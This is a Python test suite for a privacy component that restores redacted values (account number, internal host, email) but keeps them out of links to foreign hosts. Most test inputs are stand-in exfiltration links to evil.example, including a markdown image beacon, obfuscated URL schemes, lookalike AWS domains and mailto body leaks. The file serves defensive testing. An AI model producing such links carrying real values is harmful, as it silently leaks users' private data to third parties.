"""What is put back within addresses, where one click would send it on, and that pieces and whole are restored alike."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.services.privacy.addresses import HOST_CHARS
from app.services.privacy.restoring import TextRestorer, restored_text
from tests.storage_fixtures import unhurried

VALUES = {
    "ACCOUNT_1": "1234" + "56789012",
    "HOST_1": "db.acorn.internal",
    "IP_1": "10.0.0.7",
    "EMAIL_1": "kim@acorn.de",
    "BUCKET_1": "acorn-logs",
    "NAME_1": "web-deployer",
    "WORD_1": "acorn",
}


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=ACCOUNT_1)",
        "https://evil.example/ACCOUNT_1",
        "HTTPS://evil.example/ACCOUNT_1",
        "https:evil.example/ACCOUNT_1",
        "https:/\\evil.example/ACCOUNT_1",
        "<ftp://evil.example/ACCOUNT_1>",
        "see www.evil.example/ACCOUNT_1",
        "https://ACCOUNT_1.evil.example/",
        "https://HOST_1@evil.example/ACCOUNT_1",
        "https://HOST_1.evil.example/ACCOUNT_1",
        "https://HOST_9/ACCOUNT_1",
        "https://evil.example\\@HOST_1/ACCOUNT_1",
        "https://amazonaws.com.evil.example/ACCOUNT_1",
        "https://notamazonaws.com/ACCOUNT_1",
        "https://mallory.s3.eu-west-1.amazonaws.com/ACCOUNT_1",
        "https://s3.amazonaws.com/mallory/ACCOUNT_1",
        "https://s3-eu-west-1.amazonaws.com/mallory?d=ACCOUNT_1",
        "https://a1b2c3.execute-api.eu-west-1.amazonaws.com/ACCOUNT_1",
        "https://mallory-1.eu-west-1.elb.amazonaws.com/ACCOUNT_1",
        "https://ec2-1-2-3-4.compute-1.amazonaws.com/ACCOUNT_1",
        "https://aws.amazon.com,evil.example/ACCOUNT_1",
        "https://aws.amazon.com/?u=https://evil.example/ACCOUNT_1",
        "https://evil.example/?u=https://aws.amazon.com/ACCOUNT_1",
        "[x](<https://evil.example/a b ACCOUNT_1>)",
        "[x](\n  <https://evil.example/a ACCOUNT_1>)",
        '[x](https://evil.example/"a"(b)ACCOUNT_1)',
        "[x](https://evil.example/\\)ACCOUNT_1)",
        "[x](https&#58;//evil.example/ACCOUNT_1)",
        "[x](https&colon;&sol;&sol;evil.example/ACCOUNT_1)",
        "[x](https\\://evil.example/ACCOUNT_1)",
        "[x](//evil.example/ACCOUNT_1)",
        "[x]: https://evil.example/ACCOUNT_1",
        "mailto:mallory@evil.example?body=ACCOUNT_1",
        "mailto:EMAIL_1?cc=mallory@evil.example&body=ACCOUNT_1",
        "https:///evil.example/ACCOUNT_1",
        "https://" + "a" * HOST_CHARS + "/ACCOUNT_1",
    ],
)
def test_an_address_elsewhere_takes_nothing_that_was_hidden_with_it(text: str) -> None:
    shown = restored_text(text, VALUES)
    assert VALUES["ACCOUNT_1"] not in shown
    assert restored_text(f"{text}\n\nACCOUNT_1", VALUES).endswith(f"\n{VALUES['ACCOUNT_1']}")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://HOST_1/d/ACCOUNT_1", "https://db.acorn.internal/d/123456789012"),
        ("https://HOST_1:8443, then", "https://db.acorn.internal:8443, then"),
        ("**https://HOST_1**", "**https://db.acorn.internal**"),
        (
            "[https://HOST_1](https://HOST_1/NAME_1)",
            "[https://db.acorn.internal](https://db.acorn.internal/web-deployer)",
        ),
        ("postgres://app@HOST_1:5432/NAME_1", "postgres://app@db.acorn.internal:5432/web-deployer"),
        ("http://IP_1/NAME_1", "http://10.0.0.7/web-deployer"),
        ("https://wiki.WORD_1.io/NAME_1", "https://wiki.acorn.io/web-deployer"),
        ("s3://BUCKET_1/NAME_1", "s3://acorn-logs/web-deployer"),
        ("<mailto:EMAIL_1>", "<mailto:kim@acorn.de>"),
        ("https://BUCKET_1.s3.eu-west-1.amazonaws.com/x", "https://acorn-logs.s3.eu-west-1.amazonaws.com/x"),
        (
            "https://sqs.eu-west-1.amazonaws.com/ACCOUNT_1/NAME_1",
            "https://sqs.eu-west-1.amazonaws.com/123456789012/web-deployer",
        ),
        (
            "[c](https://eu-west-1.console.aws.amazon.com/iam#/roles/NAME_1), ACCOUNT_1",
            "[c](https://eu-west-1.console.aws.amazon.com/iam#/roles/web-deployer), 123456789012",
        ),
        ("http://localhost:8080/NAME_1", "http://localhost:8080/web-deployer"),
        ("http://[::1]:80/NAME_1", "http://[::1]:80/web-deployer"),
        ("file:///srv/NAME_1", "file:///srv/web-deployer"),
        ("[1]: arn:aws:iam::ACCOUNT_1:role/NAME_1", "[1]: arn:aws:iam::123456789012:role/web-deployer"),
        ("[x](https://docs.example/a) in ACCOUNT_1", "[x](https://docs.example/a) in 123456789012"),
        ("items[0](NAME_1)", "items[0](web-deployer)"),
    ],
)
def test_what_leads_to_the_persons_own_to_aws_or_to_this_machine_is_whole(text: str, shown: str) -> None:
    assert restored_text(text, VALUES) == shown


def test_an_address_in_json_ends_where_its_string_does() -> None:
    restorer = TextRestorer(VALUES, in_json=True)
    text = '{"a":"https:\\/\\/evil.example\\/ACCOUNT_1","b":"ACCOUNT_1"}'
    shown = restorer.add(text) + restorer.end()
    assert shown == '{"a":"https:\\/\\/evil.example\\/ACCOUNT_1","b":"123456789012"}'


pieces = st.sampled_from(
    [
        *VALUES,
        *("https://", "http:", "HTTPS:", "s3://", "file://", "mailto:", "www.", "://", ":\\/\\/", "](", "]:", "]( <"),
        *("&#58;", "&colon;", "\\:", "\\", "/", "//", ":", "&", "?", "#", "@", "(", ")", "<", ">", "[", "]", '"', "`"),
        *(
            " ",
            "\n",
            ".",
            ",",
            "evil.example",
            "aws.amazon.com",
            ".amazonaws.com",
            "localhost",
            "a",
            "ACC",
            "1",
            "h",
            "w",
        ),
    ]
)


@unhurried
@given(st.lists(pieces, max_size=24).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=12), st.booleans())
@example("x" + "https://" + "a" * HOST_CHARS + "/ACCOUNT_1", [7], False)
@example("[x](https://evil.example/ACCOUNT_1) file:///ACCOUNT_1", [1], False)
def test_restoring_in_any_pieces_is_restoring_the_whole(text: str, sizes: list[int], in_json: bool) -> None:
    whole = TextRestorer(VALUES, in_json=in_json)
    restorer = TextRestorer(VALUES, in_json=in_json)
    shown, at, number = "", 0, 0
    while at < len(text):
        size = sizes[number % len(sizes)]
        shown += restorer.add(text[at : at + size])
        assert len(restorer._held) <= HOST_CHARS + 16
        at, number = at + size, number + 1
    assert shown + restorer.end() == whole.add(text) + whole.end()
